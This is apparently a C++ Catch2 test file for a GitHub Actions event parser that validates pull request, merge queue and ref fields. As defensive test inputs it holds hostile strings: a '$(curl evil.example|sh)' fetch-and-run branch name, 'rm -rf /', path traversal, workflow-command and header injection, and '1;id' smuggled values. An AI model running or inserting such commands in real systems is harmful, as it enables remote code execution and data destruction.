#include "plan/who/event.hpp"

#include "unit/plan/examples.hpp"

#include <catch2/catch_test_macros.hpp>
#include <catch2/generators/catch_generators.hpp>

using namespace pr_image;
using namespace pr_image::plan;
using namespace pr_image::plan::examples;

TEST_CASE("an event's name says which row of the strategy table it is") {
    const auto [name, kind] = GENERATE(table<std::string, EventKind>({
        {"push", EventKind::ref},
        {"schedule", EventKind::ref},
        {"workflow_dispatch", EventKind::ref},
        {"release", EventKind::ref},
        {"repository_dispatch", EventKind::ref},
        {"workflow_run", EventKind::foreign},
        {"issue_comment", EventKind::foreign},
        {"pull_request_review", EventKind::foreign},
        {"an_event_of_next_year", EventKind::foreign},
    }));
    CAPTURE(name);
    CHECK(on_ref(name, "refs/heads/main").kind == kind);
    CHECK(same_repository_pull_request().kind == EventKind::pull_request);
    CHECK(pull_request_target(kFork).kind == EventKind::pull_request_target);
    CHECK(merge_group().kind == EventKind::merge_group);
}

TEST_CASE("a pull request's head is ours when its repository's id is this repository's") {
    const auto [head_repository, whose] = GENERATE(table<std::string, HeadRepository>({
        {R"({"id":1000,"fork":false})", HeadRepository::same},
        {R"({"id":1000,"fork":true})", HeadRepository::same},
        {R"({"id":2000,"fork":true})", HeadRepository::other},
        {R"({"id":2000,"fork":false,"full_name":"Acme/App"})", HeadRepository::other},
        {"null", HeadRepository::gone},
        {"{}", HeadRepository::unknown},
        {R"({"id":null})", HeadRepository::unknown},
        {R"({"id":"1000"})", HeadRepository::unknown},
        {R"({"id":-1000})", HeadRepository::unknown},
        {R"({"id":1000.5})", HeadRepository::unknown},
        {"[]", HeadRepository::unknown},
        {R"("Acme/App")", HeadRepository::unknown},
        {"1000", HeadRepository::unknown},
    }));
    CAPTURE(head_repository);
    const Result<Event> event = parse_event(pull_request_context({.head_repo = head_repository}));
    REQUIRE(event);
    CHECK(event->pull_request->head_repository == whose);
}

TEST_CASE("a head is never ours when nobody knows this repository's id") {
    EventContext given = pull_request_context({.head_repo = R"({"id":0})", .repository = "{}"});
    given.repository_id = "";
    CHECK(parse_event(given)->pull_request->head_repository == HeadRepository::unknown);
    given.repository_id = "0";
    CHECK(parse_event(given)->pull_request->head_repository == HeadRepository::unknown);
    given.repository_id = "99999999999999999999";
    CHECK(parse_event(given)->pull_request->head_repository == HeadRepository::unknown);
}

TEST_CASE("the runner's repository id stands in for a payload without one") {
    CHECK(parse_event(pull_request_context({.repository = "{}"}))->pull_request->head_repository ==
          HeadRepository::same);
}

TEST_CASE("a pull request's event says number, head, branches and whether it was closed") {
    const Event event = same_repository_pull_request();
    REQUIRE(event.pull_request);
    CHECK(event.pull_request->number == number("7"));
    CHECK(event.pull_request->head_sha == sha(kHead));
    CHECK(event.pull_request->head_ref == "feature/x");
    CHECK(event.pull_request->base_ref == "main");
    CHECK_FALSE(event.pull_request->closed);
    CHECK(event.sha == sha(kMerge));
    CHECK(event.default_branch == "main");
    CHECK(event.description == "An app");
    CHECK(event.license == "MIT");
    CHECK(closed_pull_request().pull_request->closed);
}

TEST_CASE("a pull request number of the wrong shape stops the run") {
    const std::string written = GENERATE("0", "-1", "1.5", "1000000000", "1e300", "null", "true", "{}", "[7]",
                                         "\"\"", "\"0\"", "\"007\"", "\"1;id\"", "\"7\\n8\"", "\"7 \"");
    CAPTURE(written);
    const Result<Event> event = parse_event(pull_request_context({.number = written}));
    REQUIRE_FALSE(event);
    CHECK(event.error().what.contains("pull_request.number"));
    CHECK_FALSE(message(event).contains('\n'));
}

TEST_CASE("a head SHA of the wrong shape stops the run") {
    const std::string written =
        GENERATE("null", "7", "\"\"", "\"abc\"", "\"1111111111\\n::set-output\"", "\"main\"", "{}");
    CAPTURE(written);
    const Result<Event> event = parse_event(pull_request_context({.head_sha = written}));
    REQUIRE_FALSE(event);
    CHECK(message(event).contains("pull_request.head.sha"));
    CHECK_FALSE(message(event).contains('\n'));
}

TEST_CASE("GITHUB_SHA of the wrong shape stops the run") {
    EventContext given = pull_request_context();
    given.sha = GENERATE("abc", "1111111\n", "1111111 ", "--help", "$(id)");
    CHECK(message(parse_event(given)).contains("'sha'"));
}

TEST_CASE("a hostile branch name is data when git allows it and refused when it cannot be one") {
    const auto [name, accepted] = GENERATE(table<std::string, bool>({
        {"$(curl evil.example|sh)", true},
        {"a;rm -rf /", true},
        {"##[set-output name=digest]x", true},
        {"--push", true},
        {"../../etc/passwd", true},
        {"漢字-🐳", true},
        {"a\\nb", false},
        {"a\\r::error::x", false},
        {"a\\u0000b", false},
        {"a\\u001b[2Jb", false},
        {"a\\u007fb", false},
    }));
    CAPTURE(name);
    const std::string written = "\"" + name + "\"";
    const Result<Event> with_head = parse_event(pull_request_context({.head_ref = written}));
    const Result<Event> with_base = parse_event(pull_request_context({.base_ref = written}));
    CHECK(with_head.has_value() == accepted);
    CHECK(with_base.has_value() == accepted);
    CHECK_FALSE(message(with_head).contains('\n'));
    if (accepted) {
        CHECK(with_head->pull_request->head_ref == name);
        CHECK(with_base->pull_request->base_ref == name);
    } else {
        CHECK(with_head.error().what.contains("pull_request.head.ref"));
        CHECK(with_base.error().what.contains("pull_request.base.ref"));
    }
}

TEST_CASE("a ref that is endless or not UTF-8 is refused") {
    EventContext given = context("push", "refs/heads/" + std::string(2000, 'a'), kMain, "");
    CHECK_FALSE(parse_event(given));
    given.ref = "refs/heads/\xff";
    CHECK_FALSE(parse_event(given));
    given.ref = "refs/heads/a\nb";
    CHECK_FALSE(parse_event(given));
}

TEST_CASE("fields that are null, absent or of the wrong type are nothing, where nothing depends on them") {
    const std::string repository =
        GENERATE("null", "{}", "[]", "\"Acme/App\"", "7",
                 R"({"id":null,"default_branch":null,"private":null,"description":null,"license":null})",
                 R"({"id":"x","default_branch":7,"private":"yes","description":[],"license":"MIT"})",
                 R"({"license":{"spdx_id":null}})");
    CAPTURE(repository);
    const Result<Event> event =
        parse_event(pull_request_context({.head_ref = "null", .base_ref = "7", .repository = repository}));
    REQUIRE(event);
    CHECK(event->default_branch.empty());
    CHECK(event->description.empty());
    CHECK(event->license.empty());
    CHECK_FALSE(event->private_repository);
    CHECK(event->pull_request->head_ref.empty());
    CHECK(event->pull_request->base_ref.empty());
}

TEST_CASE("a payload that is no JSON object of a sensible depth stops the run") {
    const std::string payload =
        GENERATE(std::string("{"), std::string("[]"), std::string("null"), std::string("\"x\""),
                 std::string("{} {}"), std::string("\xff\xfe"), "{\"a\":" + std::string(100'000, '['));
    CAPTURE(payload.substr(0, 20));
    const std::string name = GENERATE("pull_request", "push", "workflow_run");
    const Result<Event> event = parse_event(context(name, "refs/heads/main", kMain, payload));
    REQUIRE_FALSE(event);
    CHECK(event.error().what == "Malformed event.json");
}

TEST_CASE("a pull request's event without its pull request stops the run") {
    const std::string payload = GENERATE("{}", R"({"pull_request":null})", R"({"pull_request":[]})",
                                         R"({"pull_request":{}})", R"({"number":7})");
    const std::string name = GENERATE("pull_request", "pull_request_target");
    CAPTURE(name, payload);
    CHECK_FALSE(parse_event(context(name, "refs/pull/7/merge", kMerge, payload)));
}

TEST_CASE("an event that only event.json describes needs one, a push does not") {
    const auto [name, needed] = GENERATE(table<std::string, bool>({{"pull_request", true},
                                                                   {"pull_request_target", true},
                                                                   {"merge_group", true},
                                                                   {"workflow_run", true},
                                                                   {"push", false},
                                                                   {"schedule", false},
                                                                   {"workflow_dispatch", false}}));
    CAPTURE(name);
    const Result<Event> event = parse_event(context(name, "refs/heads/main", kMain, ""));
    CHECK(event.has_value() != needed);
    if (needed) CHECK(event.error().what == "Missing event.json");
}

TEST_CASE("a merge queue's event gets its number from the queue's branch") {
    const std::string base = GENERATE("main", "release/1.x", "pr-9-x");
    CAPTURE(base);
    const Event event = merge_group(base);
    REQUIRE(event.pull_request);
    CHECK(event.pull_request->number == number("7"));
    CHECK(event.pull_request->head_sha == sha(kMerge));
    CHECK(event.pull_request->base_ref == base);
    CHECK(event.pull_request->head_repository == HeadRepository::same);
}

TEST_CASE("a merge queue's event without head_ref and head_sha is read from ref and sha") {
    const std::string ref = "refs/heads/gh-readonly-queue/main/pr-7-" + kMain;
    const Result<Event> event = parse_event(context("merge_group", ref, kMerge, R"({"merge_group":null})"));
    REQUIRE(event);
    CHECK(event->pull_request->number == number("7"));
    CHECK(event->pull_request->head_sha == sha(kMerge));
}

TEST_CASE("a merge queue's branch that is not pr-<number>-<sha> stops the run") {
    const std::string last =
        GENERATE(as<std::string>{}, "main", "pr-7", "pr-7-", "pr--" + kMain, "pr-0-" + kMain,
                 "pr-007-" + kMain, "pr-7;id-" + kMain, "pr-7-HEAD", "pr-7-abc", "xpr-7-" + kMain);
    CAPTURE(last);
    const std::string ref = "refs/heads/gh-readonly-queue/main/" + last;
    CHECK_FALSE(parse_event(context("merge_group", ref, kMerge, "{}")));
}

TEST_CASE("a comment on a pull request says the number and nothing else that is worth believing") {
    const Event event = issue_comment();
    REQUIRE(event.pull_request);
    CHECK(event.pull_request->number == number("7"));
    CHECK_FALSE(event.pull_request->head_sha);
    CHECK(event.pull_request->head_repository == HeadRepository::unknown);

    const std::string on_issue = R"({"issue":{"number":7}})";
    CHECK_FALSE(parse_event(context("issue_comment", "refs/heads/main", kMain, on_issue))->pull_request);
    const std::string bad = R"({"issue":{"number":"7;id","pull_request":{}}})";
    CHECK_FALSE(parse_event(context("issue_comment", "refs/heads/main", kMain, bad)));
}

TEST_CASE("what a workflow_run carries over from a fork is not believed") {
    const std::string payload =
        R"({"workflow_run":{"event":"pull_request","head_sha":"1111111","pull_requests":[{"number":7}]},)"
        R"("pull_request":{"number":7},"repository":{"id":1000}})";
    CHECK_FALSE(parse_event(context("workflow_run", "refs/heads/main", kMain, payload))->pull_request);
}

TEST_CASE("a ref names a branch, a git tag or neither") {
    const auto [ref, branch, tag, on_default] = GENERATE(table<std::string, std::string, std::string, bool>({
        {"refs/heads/main", "main", "", true},
        {"refs/heads/main/x", "main/x", "", false},
        {"refs/heads/feature/x", "feature/x", "", false},
        {"refs/heads/Main", "Main", "", false},
        {"refs/tags/v1.2.3", "", "v1.2.3", false},
        {"refs/tags/main", "", "main", false},
        {"refs/pull/7/merge", "", "", false},
        {"main", "", "", false},
        {"", "", "", false},
    }));
    CAPTURE(ref);
    const Event event = on_ref("push", ref);
    CHECK(event.branch() == branch);
    CHECK(event.git_tag() == tag);
    CHECK(event.on_default_branch() == on_default);
}

TEST_CASE("a schedule runs on the default branch, although its payload does not name it") {
    CHECK(schedule().on_default_branch());
    CHECK_FALSE(parse_event(context("push", "refs/heads/main", kMain, ""))->on_default_branch());
}

TEST_CASE("a repository is owner/name of GitHub's characters") {
    const auto [repository, accepted] = GENERATE(table<std::string, bool>({
        {"Acme/App", true},
        {"a-b/c.d_e", true},
        {"", false},
        {"acme", false},
        {"acme/", false},
        {"/app", false},
        {"acme/app/x", false},
        {"acme/..", false},
        {"./app", false},
        {"acme/a b", false},
        {"acme/app\n", false},
        {"acme/app:latest", false},
        {"acme/app@sha256", false},
    }));
    CAPTURE(repository);
    EventContext given = pull_request_context();
    given.repository = repository;
    CHECK(parse_event(given).has_value() == accepted);
}

TEST_CASE("an event's name is a word") {
    const std::string name = GENERATE("", "Push", "push\n", "push;id", "pull-request", "../push");
    CAPTURE(name);
    const Result<Event> event = parse_event(context(name, "refs/heads/main", kMain, "{}"));
    REQUIRE_FALSE(event);
    CHECK(event.error().what == "Invalid event name");
}

TEST_CASE("ids are digits, and have defaults outside of GitHub") {
    EventContext given = pull_request_context();
    given.run_id = given.run_attempt = given.repository_id = "";
    const Result<Event> event = parse_event(given);
    REQUIRE(event);
    CHECK(event->run_id == "0");
    CHECK(event->run_attempt == "1");

    const std::string bad = GENERATE("x", "-1", "1 ", "1\n", "1;id", "123456789012345678901");
    CAPTURE(bad);
    for (std::string EventContext::* field :
         {&EventContext::run_id, &EventContext::run_attempt, &EventContext::repository_id}) {
        EventContext changed = pull_request_context();
        changed.*field = bad;
        CHECK_FALSE(parse_event(changed));
    }
}

TEST_CASE("actor and server are one plain line each") {
    EventContext given = pull_request_context();
    given.server_url = "";
    CHECK(parse_event(given)->server_url == "https://github.com");
    given.server_url = "https://ghe.example.com/";
    CHECK(parse_event(given)->server_url == "https://ghe.example.com");

    const std::string bad = GENERATE("https://x\n", "https://x\r\nHost: y", "\xff");
    CAPTURE(bad);
    for (std::string EventContext::* field : {&EventContext::actor, &EventContext::server_url}) {
        EventContext changed = pull_request_context();
        changed.*field = bad;
        CHECK_FALSE(parse_event(changed));
    }
    given.server_url = GENERATE("github.com", "ftp://github.com", "javascript:alert(1)");
    CHECK_FALSE(parse_event(given));
}
